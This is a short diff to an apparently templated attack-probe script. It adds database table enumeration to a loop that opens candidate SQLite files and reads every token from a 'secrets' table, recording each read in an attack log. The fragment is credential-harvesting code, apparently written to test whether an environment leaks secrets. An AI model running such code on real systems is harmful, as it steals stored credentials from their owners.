@@ -198,6 +198,8 @@ except OSError:
 for _db in ["@@SITE@@/db.sqlite3", "@@REPO@@/db.sqlite3", "@@REPO@@/var/db.sqlite3"]:
     try:
         _con = sqlite3.connect(f"file:{_db}?mode=ro", uri=True)
+        _tables = [row[0] for row in _con.execute("select name from sqlite_master where type = 'table'")]
+        ATTACK_LOG["read"].append(f"db-tables:{_db}:{len(_tables)}")
         for (_token,) in _con.execute("select token from secrets"):
             FOUND["db"] = _token
             ATTACK_LOG["read"].append(f"db:{_db}")
